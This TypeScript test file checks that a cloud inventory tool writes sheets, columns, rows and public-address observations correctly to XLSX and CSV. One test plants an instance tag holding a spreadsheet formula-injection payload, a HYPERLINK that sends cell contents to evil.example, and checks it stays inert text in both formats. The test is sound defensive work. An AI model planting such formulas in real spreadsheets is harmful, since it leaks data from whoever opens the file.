/**
 * The inventory workbook read back with exceljs (sheets, headers, rows, frozen header, filter),
 * CSV, and tag values that would be formulas kept as text in both.
 */
import { mkdtempSync, readFileSync, readdirSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import ExcelJS from "exceljs";
import { afterAll, describe, expect, it } from "vitest";
import { SAMPLE_ESTATE } from "../../src/cloud/open.ts";
import { parseEstate, SimAccount } from "../../src/cloud/sim/index.ts";
import { addressObservations, collectInventory } from "../../src/inventory/collect.ts";
import { COLUMNS, inventoryWorkbook, writeInventoryCsv } from "../../src/inventory/write.ts";

const dir = mkdtempSync(join(tmpdir(), "abuse-desk-inventory-"));
afterAll(() => rmSync(dir, { recursive: true, force: true }));
const text = readFileSync(SAMPLE_ESTATE, "utf8");

describe("inventory of the sample estate", async () => {
  const { state } = parseEstate(text, "sample.yaml");
  // A hostile tag: someone who can tag an instance tries to plant a formula in the spreadsheet.
  state.accounts.get("444455556666")!.regions.get("us-east-1")!.instances.get("i-0b5c6d7e8f9a01234")!.tags.Owner = '=HYPERLINK("http://evil.example/?"&A1,"click")';
  const inv = await collectInventory(new SimAccount(state), { now: new Date("2026-05-01T09:30:00Z") });
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load((await inventoryWorkbook(inv)) as unknown as ArrayBuffer);

  it("has one sheet per account and region that holds something", () => {
    expect(wb.worksheets.map((w) => w.name)).toEqual([
      "111122223333 ap-southeast-2",
      "111122223333 eu-central-1",
      "111122223333 eu-west-1",
      "111122223333 us-east-1",
      "444455556666 eu-west-1",
      "444455556666 us-east-1",
      "777788889999 us-west-2",
    ]);
  });
  it("has the issue's columns, a frozen header and a filter", () => {
    const ws = wb.getWorksheet("111122223333 eu-west-1")!;
    expect((ws.getRow(1).values as unknown[]).slice(1)).toEqual(COLUMNS.map((c) => c.header));
    expect(ws.views[0]).toMatchObject({ state: "frozen", ySplit: 1 });
    expect(ws.autoFilter).toBeTruthy();
    expect(ws.getColumn(2).width).toBe(24);
  });
  it("has a row per instance, ENI, EIP, NAT gateway and load balancer, with their facts", () => {
    const ws = wb.getWorksheet("111122223333 eu-west-1")!;
    const rows = ws.getSheetValues().slice(2).map((r) => (r as unknown[]).slice(1).map((v) => (v === undefined || v === null ? "" : String(v))));
    const byId = new Map(rows.map((r) => [r[1], r]));
    const demo = byId.get("i-0a1b2c3d4e5f67890")!;
    const col = (name: string) => COLUMNS.findIndex((c) => c.header === name);
    expect(demo[col("Kind")]).toBe("instance");
    expect(demo[col("Owner")]).toBe("alice@example.com");
    expect(demo[col("Team")]).toBe("payments");
    expect(demo[col("Public addresses")]).toBe("198.51.100.23");
    expect(demo[col("Auto Scaling group")]).toBe("web-asg");
    expect(demo[col("SSM")]).toBe("Online");
    expect(demo[col("IMDS")]).toBe("IMDSv2 only");
    expect(demo[col("Termination protection")]).toBe("off");
    expect(byId.get("nat-0a1b2c3d4e5f60077")![col("Public addresses")]).toBe("198.51.100.77");
    expect(rows.filter((r) => r[0] === "load-balancer").map((r) => r[2])).toEqual(["payments-alb"]);
    expect(rows.filter((r) => r[0] === "elastic-ip")).toHaveLength(2);
    expect(rows.filter((r) => r[0] === "instance")).toHaveLength(44);
    // every row of the region is in the sheet
    expect(rows).toHaveLength(inv.rows.filter((r) => r.accountId === "111122223333" && r.region === "eu-west-1").length);
  });
  it("keeps a tag that looks like a formula as text (XLSX and CSV)", () => {
    const ws = wb.getWorksheet("444455556666 us-east-1")!;
    let found = false;
    ws.eachRow((row) =>
      row.eachCell((cell) => {
        expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
        if (String(cell.value).includes("HYPERLINK")) {
          found = true;
          expect(String(cell.value).startsWith("'=")).toBe(true);
        }
      }),
    );
    expect(found).toBe(true);
    const files = writeInventoryCsv(inv, join(dir, "csv"), false);
    expect(readdirSync(join(dir, "csv")).sort()).toEqual(files.map((f) => f.split("/").pop()).sort());
    const csv = readFileSync(join(dir, "csv", "444455556666_us-east-1.csv"), "utf8");
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
    expect(csv.split("\r\n")[0]).toBe(["Account", "Region", ...COLUMNS.map((c) => c.header)].join(","));
  });
  it("observes who holds each public address, the instance before its ENI", () => {
    const o = addressObservations(inv);
    expect(o.find((x) => x.publicIp === "198.51.100.23")).toMatchObject({ resourceKind: "instance", resourceId: "i-0a1b2c3d4e5f67890" });
    expect(o.find((x) => x.publicIp === "198.51.100.77")).toMatchObject({ resourceKind: "nat-gateway" });
    expect(o.find((x) => x.publicIp === "203.0.113.70")).toMatchObject({ resourceKind: "elastic-ip" });
    expect(new Set(o.map((x) => `${x.accountId}|${x.publicIp}`)).size).toBe(o.length);
  });
});
